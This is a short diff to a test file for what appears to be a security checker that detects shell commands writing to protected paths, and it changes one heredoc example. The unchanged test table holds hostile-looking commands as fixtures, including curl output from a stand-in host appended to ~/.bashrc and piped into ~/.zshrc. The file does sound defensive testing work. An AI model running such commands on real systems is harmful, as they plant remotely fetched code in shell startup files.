@@ -389,7 +389,8 @@ describe('protected-write floor: not a finding', () => {
 
 describe('protected-write floor: unresolved commands (text fallback)', () => {
   const table: Array<[string, string[]]> = [
-    ['cat > .vscode/settings.json <<EOF\n{}\nEOF', [`${CWD}/.vscode/settings.json`]],
+    // An unquoted body that expands stays unresolved (docs/decisions.md "Data that only looks like code").
+    ['cat > .vscode/settings.json <<EOF\n{"user": "$USER"}\nEOF', [`${CWD}/.vscode/settings.json`]],
     ['echo "$(curl -s https://x.example)" >>~/.bashrc', [`${HOME}/.bashrc`]],
     ['curl -s https://x.example | tee -a ~/.zshrc "$(mktemp)"', [`${HOME}/.zshrc`]],
   ];
